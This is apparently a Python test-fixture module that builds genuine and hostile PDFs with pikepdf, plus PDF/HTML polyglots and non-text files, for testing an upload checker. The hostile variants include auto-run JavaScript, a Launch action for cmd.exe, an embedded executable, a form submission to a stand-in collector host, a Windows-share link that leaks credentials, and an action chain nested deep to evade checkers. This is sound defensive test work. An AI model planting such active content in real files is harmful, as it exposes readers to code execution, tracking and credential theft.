"""Files for upload tests: PDFs genuine and hostile, built with pikepdf (the library the check itself uses), and
files that are not text, for the imports."""

from __future__ import annotations

import io
import os

import pikepdf

HOSTILE = ("javascript", "names_javascript", "link_javascript", "form_script", "launch", "embedded", "xfa",
           "remote_file", "submit_form", "open_web_address")


def pdf_bytes(dangerous: str | None = None, *, text: str = "Signed by both parties", pages: int = 1,
              object_streams: bool = True, scanned_bytes: int = 0) -> bytes:
    """A small PDF; ``dangerous`` adds one kind of active content (see ``HOSTILE``); ``scanned_bytes`` adds an
    incompressible image of that size, as a scanner's would be."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    pdf.docinfo["/Title"] = text  # so two genuine copies differ in their bytes
    page = pdf.pages[0]
    if scanned_bytes:
        scan = pdf.make_stream(os.urandom(scanned_bytes), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image,
                               Width=1, Height=1, ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8)
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=scan))
    if dangerous == "javascript":  # runs when the document opens
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    elif dangerous == "names_javascript":  # a document-level script in the name tree
        script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(2)")))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), script])))
    elif dangerous == "link_javascript":  # a link annotation whose action is a script
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20],
                                  A=pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                                         JS=pikepdf.String("app.alert(3)"))))
        page.Annots = pdf.make_indirect(pikepdf.Array([link]))
    elif dangerous == "form_script":  # a form field with an additional action (keystroke script)
        action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(4)")))
        field = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
                                                     FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
                                                     Rect=[0, 0, 100, 20], AA=pikepdf.Dictionary(K=action)))
        page.Annots = pdf.make_indirect(pikepdf.Array([field]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    elif dangerous == "launch":  # inside a link annotation, in an object stream
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                  A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
        page.Annots = pdf.make_indirect(pikepdf.Array([link]))
    elif dangerous == "embedded":
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")
    elif dangerous == "xfa":
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(),
                                               XFA=pdf.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>"))
    elif dangerous == "remote_file":  # a link to a file on another machine (a Windows share leaks credentials)
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20],
                                  A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(r"\\host\share\x.pdf"),
                                                       D=pikepdf.Array([0, pikepdf.Name.Fit])))
        page.Annots = pdf.make_indirect(pikepdf.Array([link]))
    elif dangerous == "submit_form":
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm,
                                                 F=pikepdf.String("https://collector.example/"))
    elif dangerous == "open_web_address":  # the document opens a web address by itself
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/"))
    elif dangerous == "deep_chain":  # a script at the end of a chain of actions nested past any checker's depth
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(5)"))
        for _ in range(70):
            action = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), Next=action)
        pdf.Root.OpenAction = action
    elif dangerous is not None:
        raise ValueError(dangerous)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate if object_streams
             else pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def encrypted_pdf_bytes(*, user_password: str) -> bytes:
    """A PDF encrypted with an owner password; ``user_password`` "" opens without one but restricts editing."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password,
                                                 allow=pikepdf.Permissions(modify_other=False)))
    return out.getvalue()


PAGE = b"<html><body><script>fetch('/w/').then(r => r.text()).then(t => alert(t))</script></body></html>\n"


def web_page_with_pdf_header() -> bytes:
    """What the first-bytes check let through: the PDF header, then a web page."""
    return b"%PDF-1.7\n" + PAGE


def web_page_before_the_objects() -> bytes:
    """A genuine PDF's objects after a web page: a reader repairing the file would open it."""
    genuine = pdf_bytes()
    return genuine[: genuine.index(b"\n") + 1] + PAGE + genuine[genuine.index(b"\n") + 1:]


def web_page_after_the_end() -> bytes:
    """A genuine PDF with a web page after its end marker (readers ignore what follows it)."""
    return pdf_bytes() + b"\n" + PAGE


def truncated_pdf_bytes() -> bytes:
    """The first half of a PDF: its cross-reference table lost, which PDF readers (and qpdf) rebuild."""
    genuine = pdf_bytes(pages=3, object_streams=False)
    return genuine[: len(genuine) // 2]


def png_bytes() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "PNG")
    return out.getvalue()


# Files people pick by mistake (or on purpose) for a CSV or JSON import, and what the refusal calls them.
NOT_TEXT = [
    (pdf_bytes(), "it looks like a PDF"),
    (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml\n" + bytes(64),
     "it looks like a ZIP archive (Word and Excel documents are ZIP archives too)"),
    (png_bytes(), "it looks like a PNG image"),
]
NOT_TEXT_IDS = ["pdf", "xlsx", "png"]
